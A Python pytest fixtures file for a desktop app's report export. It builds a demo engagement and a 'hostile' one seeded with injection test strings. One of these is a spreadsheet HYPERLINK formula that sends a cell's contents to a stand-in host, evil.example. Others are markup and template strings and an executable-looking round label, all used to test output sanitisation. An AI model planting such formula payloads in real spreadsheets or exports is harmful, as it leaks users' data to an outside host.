"""Engagements the office outputs are written from: the demo, and one full of hostile text."""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import pytest

from mutuality_desktop.core.engagement import Engagement
from mutuality_desktop.core.model import EngagementInfo
from mutuality_desktop.core.report import ReportData, collect_report_data

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
MARKUP = "<b>not bold</b> & {{title}} <w:t>raw</w:t>"
WELSH = "Cyngor Sir Ynys Môn — ŵ ŷ, Łódź, Ελλάδα, “quotes” €"
ROUND_LABEL = "=SUM(1,2)"


@pytest.fixture(scope="session")
def demo_file(tmp_path_factory: pytest.TempPathFactory, demo_master: Path) -> Path:
    path = tmp_path_factory.mktemp("office-demo") / "demo.mutuality"
    shutil.copyfile(demo_master, path)
    return path


@pytest.fixture(scope="session")
def demo_data(demo_file: Path) -> ReportData:
    with Engagement.open(demo_file, readonly=True) as engagement:
        return collect_report_data(engagement)


@pytest.fixture(scope="session")
def hostile_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Notes that look like formulas and markup, control characters, Welsh and Greek names, a
    round label a spreadsheet would run, an overdue action."""
    path = tmp_path_factory.mktemp("office-hostile") / "hostile.mutuality"
    info = EngagementInfo(title=f"Review {MARKUP}", client_organisation=WELSH,
                          provider_organisation="Castleway Services Ltd", workshop_date=dt.date(2026, 3, 12))
    with Engagement.create(path, info) as eng:
        factors = eng.framework.factors
        base = eng.rounds()[0].id
        for factor in factors[:6]:
            eng.set_score(base, factor.id, "agreed", 2)
        rid = eng.add_round(ROUND_LABEL, dt.date(2026, 10, 1)).id
        for i, factor in enumerate(factors[:6]):
            eng.set_score(rid, factor.id, "client", i % 6)
            eng.set_score(rid, factor.id, "provider", (i + 2) % 6)
            eng.set_score(rid, factor.id, "agreed", (i + 1) % 6)
        eng.set_notes(rid, factors[0].id, "agreed", FORMULA + "\nsecond line\x07 with a bell")
        eng.set_notes(rid, factors[1].id, "client", MARKUP)
        eng.add_action(factors[0].id, FORMULA, owner="@owner", side="client",
                       due_date=dt.date(2020, 1, 31), status="open", round_id=rid)
        eng.add_participant(WELSH, "Chief Executive", "client")
    return path


@pytest.fixture(scope="session")
def hostile_data(hostile_file: Path) -> ReportData:
    with Engagement.open(hostile_file, readonly=True) as engagement:
        return collect_report_data(engagement)
